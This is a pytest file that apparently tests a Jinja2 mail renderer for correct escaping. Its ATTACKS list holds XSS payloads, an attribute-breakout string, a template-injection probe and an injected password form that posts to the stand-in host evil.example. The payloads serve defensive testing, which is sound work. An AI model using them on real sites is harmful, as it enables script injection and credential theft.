"""Renders mails from templates of its own; no value may add an element or an attribute to the markup."""

from html.parser import HTMLParser

import jinja2
import pytest
from markupsafe import Markup

import subject

DIGEST = """<h1>News for {{ reader }}</h1>
{% for post in posts %}
{% include "post.html.j2" %}
{% endfor %}
<p>{{ sender }}</p>"""
POST = """<article title="{{ post.author }}"><b>{{ post.author }}</b>{{ quoted(post.text) }}</article>"""
MACRO = """{% macro quoted(text) %}<blockquote>{{ text | trim }}</blockquote>{% endmacro %}"""


class Page(HTMLParser):
    def __init__(self, markup):
        super().__init__(convert_charrefs=True)
        self.skeleton, self.text = [], ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.skeleton.append((tag, *(name for name, _ in attributes)))

    def handle_data(self, data):
        self.text += data


@pytest.fixture
def renderer(tmp_path):
    (tmp_path / "digest.html.j2").write_text(DIGEST)
    (tmp_path / "macros.j2").write_text(MACRO)
    (tmp_path / "post.html.j2").write_text('{% from "macros.j2" import quoted %}' + POST)
    return subject.MailRenderer(tmp_path, "The Forum")


def digest(renderer, reader="Ann", author="Bob", text="Hello"):
    return renderer.render("digest", reader=reader, posts=[{"author": author, "text": text}])


def test_functional_renders_values_includes_and_macros(renderer):
    markup = digest(renderer, text="  see you at 9  ")
    assert "<h1>News for Ann</h1>" in markup
    assert '<article title="Bob"><b>Bob</b><blockquote>see you at 9</blockquote></article>' in markup
    assert "<p>The Forum</p>" in markup


def test_functional_renders_each_post(renderer):
    posts = [{"author": name, "text": name.upper()} for name in ("kim", "lee", "max")]
    assert renderer.render("digest", reader="Ann", posts=posts).count("<article ") == 3


def test_functional_markup_that_is_meant_as_markup_stays(renderer):
    assert "<h1>News for <i>you</i></h1>" in digest(renderer, reader=Markup("<i>you</i>"))


def test_functional_unknown_mail_and_missing_value_are_errors(renderer):
    with pytest.raises(jinja2.TemplateNotFound):
        renderer.render("welcome")
    with pytest.raises(jinja2.UndefinedError):
        renderer.render("digest", posts=[])


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "</blockquote></article><form action=//evil.example><input name=password>",
    "{{ 7 * 7 }}<b>",
]


@pytest.mark.parametrize("place", ["reader", "author", "text"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_security_values_add_no_markup(renderer, place, attack):
    page = Page(digest(renderer, **{place: attack}))
    assert page.skeleton == Page(digest(renderer)).skeleton
    assert attack in page.text


def test_security_the_sender_is_a_value_too(renderer, tmp_path):
    other = subject.MailRenderer(tmp_path, "<script>alert(1)</script>")
    assert Page(digest(other)).skeleton == Page(digest(renderer)).skeleton
